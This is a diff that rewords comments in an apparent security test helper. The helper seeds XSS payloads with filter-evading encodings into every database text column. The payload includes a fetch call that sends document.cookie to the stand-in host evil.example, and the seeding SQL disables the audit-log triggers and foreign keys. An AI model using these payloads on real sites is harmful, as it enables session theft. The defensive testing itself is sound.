@@ -1,7 +1,7 @@
-/** Counts what a payload did, and asks a foreign host for something: neither must ever happen. */
+/** Counts executions of a payload, and requests a foreign host: neither must ever happen. */
 const act = "window.teaselInjected=(window.teaselInjected||0)+1;fetch('http://evil.example/'+document.cookie)"
 
-/** Ways to run a script out of text, one for each mechanism of a browser. */
+/** Ways to run a script from text, one for each browser mechanism. */
 const vectors = [
   `<script>${act}</script>`,
   `<img src=x onerror="${act}">`,
@@ -25,7 +25,7 @@ const vectors = [
   `{{constructor.constructor("${act}")()}}\${${act}}`,
 ]
 
-/** Contexts that a text may stand in, and ways to write it so that a filter does not know it. */
+/** Contexts of the text, and encodings that a filter may miss. */
 const wraps: ((vector: string) => string)[] = [
   (vector) => vector,
   (vector) => `">${vector}`,
@@ -39,10 +39,10 @@ const wraps: ((vector: string) => string)[] = [
   (vector) => `\u202e\t${vector.replaceAll('javascript:', 'java\tscript:')}\n`,
 ]
 
-/** Every vector in every wrap. */
+/** Every vector in every context. */
 export const payloads: readonly string[] = wraps.flatMap((wrap) => vectors.map(wrap))
 
-/** The columns that hold what people, devices and files say; ids, states, hashes and what only the server writes are none of them. */
+/** Columns with text from people, devices and files; no ids, states, hashes or texts of the server. */
 const texts: Readonly<Record<string, readonly string[]>> = {
   access_requests: ['reason'],
   assets: ['name', 'content_type', 'install_location', 'reject_reason'],
@@ -81,7 +81,7 @@ const texts: Readonly<Record<string, readonly string[]>> = {
   users: ['full_name', 'email'],
 }
 
-/** Columns of JSON, with a payload `p` in each place of theirs that holds text. */
+/** JSON columns, with a payload `p` in each text. */
 const documents: Readonly<Record<string, Readonly<Record<string, string>>>> = {
   devices: { attributes: 'jsonb_build_object(p, p)', metadata: 'jsonb_build_object(p, jsonb_build_array(p))' },
   releases: { hardware_models: 'array[p]' },
@@ -97,8 +97,8 @@ const documents: Readonly<Record<string, Readonly<Record<string, string>>>> = {
 const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`
 
 /**
- * One script of SQL that puts a payload into every text of every row: another one in each row and column, and in each round.
- * What forbids changes of the audit log and what a key refers to is switched off for it.
+ * An SQL script that puts a payload into every text of every row: a different one for each row, column and round. Disables the
+ * triggers against changes of the audit log, and foreign keys.
  */
 export const seedPayloads = (round: number): string => {
   const list = `array[${payloads.map(quoted).join(',')}]`
@@ -108,7 +108,7 @@ export const seedPayloads = (round: number): string => {
     ...Object.entries(documents).flatMap(([table, of]) => Object.entries(of).map(([name, value]) => ({ table, name, value }))),
   ]
   const updates = columns.map(({ table, name, value }, n) => {
-    // Names are unique in their place: the row says which one it is.
+    // Names are unique within their parent: the row's ctid makes them so.
     const text = `(${pick(n * 7 + round * 20)} || ' ' || ctid::text)`
     return `update "${table}" set "${name}" = ${value.replace(/\bp\b/g, () => text)};`
   })
